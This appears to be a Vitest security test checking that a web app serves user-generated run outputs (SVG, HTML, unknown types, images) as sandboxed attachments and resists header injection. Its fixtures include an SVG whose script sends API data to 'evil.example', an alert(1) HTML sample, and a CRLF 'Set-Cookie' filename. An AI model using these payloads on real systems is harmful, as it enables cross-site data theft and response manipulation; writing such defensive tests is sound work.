// Issue #14, row 1: a backend chooses an output's name and type, and outputs are served from our own
// origin. An SVG (or HTML) output must never render as a page here; passive media stays inline.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { call } from "../helpers/api";
import { createApiKey } from "@/lib/auth/api-keys";
import { closeDb, db } from "@/lib/db";
import { newId } from "@/lib/ids";
import { storage } from "@/lib/storage";
import { deployment, loraVersion, sandboxEndpoint } from "../helpers/world";
import { startSandbox, type SandboxHandle } from "@/sandbox/index";

let sandbox: SandboxHandle;
let viewer: string;
let runId: string;
const outputs: Record<string, string> = {};

const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/api/v1/endpoints").then(r=>r.text()).then(t=>fetch("https://evil.example/?"+t))</script></svg>`;

beforeAll(async () => {
  process.env.FLOWGATE_ALLOW_PRIVATE_URLS = "endpoint";
  viewer = (await createApiKey({ name: "out viewer", role: "viewer" })).key;
  sandbox = await startSandbox({ execMs: 10 });
  const ep = await sandboxEndpoint(sandbox.url);
  const version = await loraVersion();
  const dep = await deployment(version.id, [ep.id]);
  runId = newId("run");
  await db().run.create({ data: { id: runId, deploymentId: dep.id, workflowVersionId: version.id, status: "succeeded", inputs: {} } });
  const files: Array<[string, string, string, Buffer]> = [
    ["svg", "evil.svg", "image/svg+xml", Buffer.from(SVG)],
    ["html", "page.html", "text/html; charset=utf-8", Buffer.from("<script>alert(1)</script>")],
    ["unknown", "blob.bin", "application/x-whatever", Buffer.from([1, 2, 3])],
    ["png", "ComfyUI_0001.png", "image/png", Buffer.from([0x89, 0x50, 0x4e, 0x47])],
    ["weird", 'a"b\r\nSet-Cookie: x=1;ü😀.webp', "IMAGE/WEBP", Buffer.from("RIFF")],
  ];
  for (const [k, filename, contentType, data] of files) {
    const storageKey = `runs/${runId}/${k}`;
    await storage().put(storageKey, data, contentType);
    const id = newId("out");
    await db().runOutput.create({ data: { id, runId, nodeId: "9", filename, contentType, kind: "image", sizeBytes: data.length, storageKey } });
    outputs[k] = id;
  }
});

afterAll(async () => {
  await sandbox?.close();
  await closeDb();
});

const get = (k: string) => call("GET", `/api/v1/runs/${runId}/outputs/${outputs[k]}`, { key: viewer });

describe("run outputs can never run script in our origin", () => {
  it("serves an SVG output as a sandboxed attachment, not as image/svg+xml inline", async () => {
    const r = await get("svg");
    expect(r.status).toBe(200);
    expect(r.headers.get("content-type")).toBe("application/octet-stream");
    expect(r.headers.get("content-disposition")).toMatch(/^attachment; filename="evil\.svg"/);
    expect(r.headers.get("x-content-type-options")).toBe("nosniff");
    const csp = r.headers.get("content-security-policy") ?? "";
    expect(csp).toContain("sandbox");
    expect(csp).toContain("default-src 'none'");
    expect(Buffer.from(await r.arrayBuffer()).toString()).toBe(SVG); // the bytes are unchanged
  });

  it("treats HTML and unknown types the same way", async () => {
    for (const k of ["html", "unknown"]) {
      const r = await get(k);
      expect(r.headers.get("content-type")).toBe("application/octet-stream");
      expect(r.headers.get("content-disposition")).toMatch(/^attachment;/);
      expect(r.headers.get("content-security-policy")).toContain("sandbox");
    }
  });

  it("keeps passive images inline, still with nosniff and the sandbox CSP", async () => {
    const r = await get("png");
    expect(r.headers.get("content-type")).toBe("image/png");
    expect(r.headers.get("content-disposition")).toBe(`inline; filename="ComfyUI_0001.png"; filename*=UTF-8''ComfyUI_0001.png`);
    expect(r.headers.get("x-content-type-options")).toBe("nosniff");
    expect(r.headers.get("content-security-policy")).toContain("sandbox");
  });

  it("a hostile file name cannot inject headers or break the response", async () => {
    const r = await get("weird");
    expect(r.status).toBe(200);
    expect(r.headers.get("content-type")).toBe("image/webp");
    const cd = r.headers.get("content-disposition")!;
    expect(cd).not.toMatch(/[\r\n]/);
    expect(r.headers.get("set-cookie")).toBeNull();
    expect(cd).toContain(`filename*=UTF-8''${encodeURIComponent('a"bSet-Cookie: x=1;ü😀.webp')}`);
  });
});
